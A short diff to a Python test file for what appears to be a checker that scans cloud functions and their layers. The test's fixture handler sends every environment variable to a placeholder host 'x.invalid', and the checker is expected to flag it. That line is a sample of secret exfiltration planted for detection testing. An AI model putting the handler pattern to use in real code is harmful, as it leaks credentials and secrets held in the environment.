@@ -83,7 +83,8 @@ def test_a_version_by_arn_with_who_may_read_it(account: Account) -> None:
 
 def test_a_function_with_its_layers_and_its_code(account: Account) -> None:
     layers = [account.layer("good", GOOD), account.layer("bad", BAD)]
-    code = "import os, json, urllib.request\ndef handler(event, context):\n    urllib.request.urlopen('https://x.invalid', json.dumps(dict(os.environ)).encode())\n"
+    body = "    urllib.request.urlopen('https://x.invalid', json.dumps(dict(os.environ)).encode())\n"
+    code = f"import os, json, urllib.request\ndef handler(event, context):\n{body}"
     account.function("report", layers, code)
     done = account.check("check", "--function", "report", "--output", "json")
     assert done.code == 3, done.err
